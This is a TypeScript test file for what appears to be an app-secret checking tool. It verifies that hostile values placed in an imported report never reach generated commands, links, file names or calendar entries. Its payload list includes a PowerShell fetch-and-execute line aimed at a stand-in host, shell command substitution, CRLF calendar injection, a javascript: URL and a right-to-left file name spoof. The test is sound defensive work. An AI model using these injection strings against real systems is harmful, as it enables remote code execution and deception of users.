import { expect, test, vi } from 'vitest';
import { searchOf } from '../../../src/checks';
import { commandsFor } from '../../../src/import/commands';
import { blades, bladeUrl, type BladeName } from '../../../src/microsoft/blades';
import { leavingOf, fileOf } from '../../../src/ui/session/report-file';
import { reminderOf } from '../../../src/ui/session/reminder';
import { idsOf, knownOf } from '../../../src/ui/show/links';
import { exchangeOf, firm, guide, Office } from './office';

const salt = '0123456789abcdef0123456789abcdef';
const address = 'https://pruefen.example/';

/** The report of a firm in which all places are filled. */
const saved = async () => {
  const alpha = firm('alpha', '1');
  const office = new Office([alpha]);
  office.account = alpha;
  const { session } = office;
  session.entry.fill({ clientId: alpha.appId, domain: alpha.domain, secretStart: alpha.start });
  await session.signingIn.popup();
  await session.intake.takeText(exchangeOf(alpha.name, [alpha.appId]));
  session.entry.setAside({ number: '7.1', kind: 'secret-valid', reason: 'Urlaub', until: '2099-01-01' });
  await vi.waitUntil(() => session.store.case.number);
  const leaving = await leavingOf({ guide, view: session.store.view, now: office.now(), salt, keepNames: true });
  return JSON.stringify(leaving?.report);
};

type Path = readonly (string | number)[];

/** The places of all texts in a value. */
const placesIn = (value: unknown, path: Path = []): Path[] => {
  if (typeof value === 'string') return [path];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) => placesIn(inner, [...path, key]));
};

const replaced = (report: string, path: Path, text: string): string => {
  const copy = JSON.parse(report) as Record<string, unknown>;
  const holder = path.slice(0, -1).reduce<Record<string, unknown>>((at, key) => at[key] as typeof at, copy);
  holder[path.at(-1) ?? ''] = text;
  return JSON.stringify(copy);
};

/** Nothing of this may stand where somebody executes or follows it; `böse` tells where it went. */
const HOSTILE = [
  "böse'; iwr https://boese.example/x.ps1 | iex; '",
  'böse$(calc)`calc`"',
  'böse\r\nATTACH:https://boese.example/\r\n',
  'javascript:böse()',
  '../../böse\u202egpj.exe',
] as const;

const executed = async (office: Office) => {
  const { view } = office.session.store;
  const ids = idsOf(view);
  const known = knownOf(view);
  const remedies = view.results.flatMap(({ remedy }) => (remedy?.blade ? [{ ...ids, ...remedy.ids }] : []));
  const links = [ids, ...remedies].flatMap((one) => (Object.keys(blades) as BladeName[]).map((b) => bladeUrl(b, one)));
  const commands = commandsFor({ appId: known ?? view.case.typed.clientId, api: searchOf(guide).api ?? '' });
  const leaving = await leavingOf({ guide, view, now: office.now(), salt, keepNames: true });
  const reminder = leaving && reminderOf({ guide, view, leaving, guideUrl: address, now: office.now() });
  const names = [leaving && fileOf(leaving, view.case.number).name, reminder?.name];
  const lines = (await reminder?.text())?.split('\r\n') ?? [];
  return { text: JSON.stringify([links, commands, names]), lines };
};

test('whatever stands in a report, none of it reaches a command, a link, a file’s name or a calendar’s line', async () => {
  const report = await saved();
  const places = placesIn(JSON.parse(report));
  expect(places.length).toBeGreaterThan(100);
  let shown = 0;
  for (const [at, path] of places.entries()) {
    const hostile = HOSTILE[at % HOSTILE.length] ?? '';
    const office = new Office([]);
    await office.session.intake.takeFile(
      new TextEncoder().encode(replaced(report, path, hostile)).buffer,
      'bericht.json',
    );
    const { text, lines } = await executed(office);
    if (JSON.stringify(office.session.store.view).includes('böse')) shown += 1;
    expect(text, path.join('.')).not.toMatch(/böse|b%C3%B6se|boese|calc|javascript:/);
    expect(lines.filter((line) => /^(ATTACH|URL|ATTENDEE)/.test(line) && line.includes('boese'))).toEqual([]);
  }
  // Many of them are shown, as text.
  expect(shown).toBeGreaterThan(30);
});
